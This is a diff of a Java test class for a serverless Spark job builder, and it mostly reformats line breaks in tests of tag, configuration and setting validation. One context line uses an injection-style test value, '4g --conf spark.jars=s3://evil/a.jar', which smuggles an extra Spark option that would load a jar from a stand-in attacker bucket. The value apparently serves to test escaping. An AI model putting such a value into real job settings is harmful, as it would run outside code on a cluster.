@@ -243,8 +243,7 @@ class ServerlessJobFunctionTest {
                                 OverrideRule.of("Title").withDefault("By day").withAllowedValues("By day", "By night"))
                         .withSetting("spark.executor.extra", "4g --conf spark.jars=s3://evil/a.jar"))
                 .runSettings(JobRunSettings.batch()
-                        .withConfigurations(
-                                EmrConfiguration.of("spark-defaults", Map.of("spark.ui.enabled", "false"))))
+                        .withConfigurations(EmrConfiguration.of("spark-defaults", Map.of("spark.ui.enabled", "false"))))
                 .build();
 
         JsonNode arguments = machine().at("/States/Run Job/Arguments");
@@ -286,7 +285,8 @@ class ServerlessJobFunctionTest {
                 () -> function()
                         .job(job.withSetting("spark.app.name", "a b"))
                         .runSettings(JobRunSettings.batch()
-                                .withConfigurations(EmrConfiguration.of("spark-defaults", Map.of("spark.app.name", "a"))))
+                                .withConfigurations(
+                                        EmrConfiguration.of("spark-defaults", Map.of("spark.app.name", "a"))))
                         .build(),
                 "'configurations' and the settings of 'job' both have spark.app.name of spark-defaults: leave one out");
     }
@@ -355,8 +355,7 @@ class ServerlessJobFunctionTest {
                 () -> batch.withTags(Map.of("t&am", "etl")),
                 "The key of a tag must be 1 to 128 letters, digits, spaces and /_.:=+@-, got: 't&am'");
         assertRefused(
-                () -> batch.withConfigurations(
-                        EmrConfiguration.of("a", Map.of()), EmrConfiguration.of("a", Map.of())),
+                () -> batch.withConfigurations(EmrConfiguration.of("a", Map.of()), EmrConfiguration.of("a", Map.of())),
                 "'configurations' has the classification a twice: make it one");
         assertRefused(
                 () -> ServerlessMonitoring.managed().withPrometheus("https://example.com"),
